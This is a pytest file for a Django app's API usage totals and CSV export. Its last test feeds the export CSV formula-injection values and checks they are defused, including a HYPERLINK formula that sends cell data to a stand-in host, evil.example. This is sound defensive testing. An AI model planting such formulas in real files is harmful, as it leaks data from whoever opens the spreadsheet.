"""Usage totals per key / user / model / day add up, and the CSV export carries the same numbers. A
request still running is in none of the totals but its own column."""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.utils import timezone

from webapp.keys.services import apikey_create
from webapp.usage.models import UsageRecord
from webapp.usage.selectors import usage_totals_by
from webapp.usage.services import usage_record_create

pytestmark = [pytest.mark.django_db, pytest.mark.db_engine]


@pytest.fixture
def records():
    users = [get_user_model().objects.create_user(name) for name in ("ann", "ben")]
    keys = [apikey_create(owner=user, name=f"{user.username}-key")[0] for user in users]
    now = timezone.now()
    # (key index, model, prompt, completion, status, days ago)
    rows = [(0, "tiny", 10, 5, "ok", 0), (0, "tiny", 20, 7, "ok", 1), (0, "big", 3, 0, "error", 0),
            (1, "big", 100, 50, "ok", 0), (1, "tiny", 1, 1, "aborted", 2), (1, "big", 40, 9, "running", 0)]
    for i, (k, model, prompt, completion, status, days_ago) in enumerate(rows):
        record = usage_record_create(request_id=f"r{i}", endpoint="completions", status=status, latency=0.1,
                                     api_key=keys[k], user=users[k], model_name=model, prompt_tokens=prompt,
                                     completion_tokens=completion)
        UsageRecord.objects.filter(pk=record.pk).update(created_at=now - timedelta(days=days_ago))
    return keys


def test_totals_per_model_user_key_and_day_add_up(records):
    by_model = {r["model_name"]: r for r in usage_totals_by(group="model")}
    by_user = {r["user__username"]: r for r in usage_totals_by(group="user")}
    by_key = {r["api_key__name"]: r for r in usage_totals_by(group="key")}
    by_day = usage_totals_by(group="day")

    assert (by_model["tiny"]["requests"], by_model["tiny"]["total_tokens"], by_model["tiny"]["errors"]) == (3, 44, 1)
    assert (by_model["big"]["requests"], by_model["big"]["total_tokens"], by_model["big"]["errors"]) == (2, 153, 1)
    assert (by_model["big"]["running"], by_model["tiny"]["running"]) == (1, 0)
    assert by_user["ann"]["prompt_tokens"] == 33 and by_user["ben"]["completion_tokens"] == 51
    assert by_key["ann-key"]["total_tokens"] == 45 and by_key["ben-key"]["total_tokens"] == 152
    assert [r["total_tokens"] for r in by_day] == [168, 27, 2]  # newest day first
    assert sum(r["requests"] for r in by_day) == 5


def test_totals_since_leave_out_older_records(records):
    since = timezone.now() - timedelta(hours=12)

    rows = usage_totals_by(group="model", since=since)

    assert {r["model_name"]: r["requests"] for r in rows} == {"big": 2, "tiny": 1}


def test_usage_csv_has_the_page_totals(client, records):
    staff = get_user_model().objects.create_user("root", is_staff=True)
    client.force_login(staff)

    page = client.get("/console/usage/?group=model&days=7")
    response = client.get("/console/usage.csv?group=model&days=7")

    assert page.status_code == 200 and b"big" in page.content
    assert response["Content-Type"] == "text/csv"
    table = list(csv.reader(io.StringIO(response.content.decode())))
    assert table[0] == ["model", "requests", "errors", "prompt_tokens", "completion_tokens",
                        "cached_prompt_tokens", "total_tokens", "running"]
    assert table[1:] == [["big", "2", "1", "103", "50", "0", "153", "1"], ["tiny", "3", "1", "31", "13", "0", "44", "0"]]


@pytest.mark.parametrize("hostile", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1)",
                                     "\t=1", "\r=1"])
def test_usage_csv_cells_never_run_as_formulas(client, hostile):
    owner = get_user_model().objects.create_user("ann")
    key = apikey_create(owner=owner, name="k")[0]
    usage_record_create(request_id="r1", endpoint="completions", status="ok", latency=0.1, api_key=key, user=owner,
                        model_name=hostile, prompt_tokens=1, completion_tokens=1, end_user=hostile)
    client.force_login(get_user_model().objects.create_user("root", is_staff=True))

    for group in ("model", "end_user"):
        table = list(csv.reader(io.StringIO(client.get(f"/console/usage.csv?group={group}").content.decode())))
        assert table[1][0] == "'" + hostile  # shown as typed, as text
        assert table[1][1:] == ["1", "0", "1", "1", "0", "2", "0"]  # numbers stay numbers
